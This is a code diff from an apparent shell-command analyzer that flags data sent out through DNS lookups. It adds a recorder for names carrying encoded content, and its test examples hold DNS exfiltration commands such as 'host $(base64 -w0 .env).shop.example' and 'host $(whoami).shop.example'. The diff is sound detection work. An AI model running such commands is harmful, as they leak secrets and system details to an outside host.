@@ -5,6 +5,7 @@ import {
   recordConnect,
 } from '../../../analysis/interpret/data-sources.ts'
 import { displayText } from '../../../analysis/interpret/loose-words.ts'
+import type { EffectRecorder } from '../../../analysis/interpret/program.ts'
 import type { ProgramSpec, SpecCallHandler } from '../../../analysis/interpret/spec.ts'
 import { readSpecOptions } from '../../../analysis/interpret/spec-interpreter.ts'
 import { classifyHost, hostOf } from '../../../analysis/remote/hosts.ts'
@@ -51,6 +52,14 @@ function lookupHandler({ channel, pattern = [], batch = [] }: LookupOptions): Sp
     }
     return options.has('h', 'help', 'version', 'V') && names.length === 0 ? 'proven' : 'plain'
   }
+}
+
+/** A name that is looked up is told to whoever answers for its domain, with what was put into it. */
+export function recordNameQuery(name: Word, recorder: EffectRecorder): boolean {
+  const payload = encodedSources(name)
+  if (payload.length === 0 || !/\0[^.]*\.[\w-]+\./.test(`${name.known}.`)) return false
+  recorder.effect({ kind: 'send-data', host: hostOfWord(name), channel: 'dns', payload })
+  return true
 }
 
 /** What a name carries; a label that no host has, signs of base64 or very long, was made of something. */
@@ -106,7 +115,7 @@ export const LOOKUP_SPECS: readonly ProgramSpec[] = [
     prints: lookupOutput,
     rules: [['**', lookupHandler({ channel: 'dns' })]],
     examples: {
-      match: ['host $(base64 -w0 .env).shop.example'],
+      match: ['host $(whoami).shop.example'],
       pass: ['nslookup shop.example', 'whois shop.example'],
     },
   },
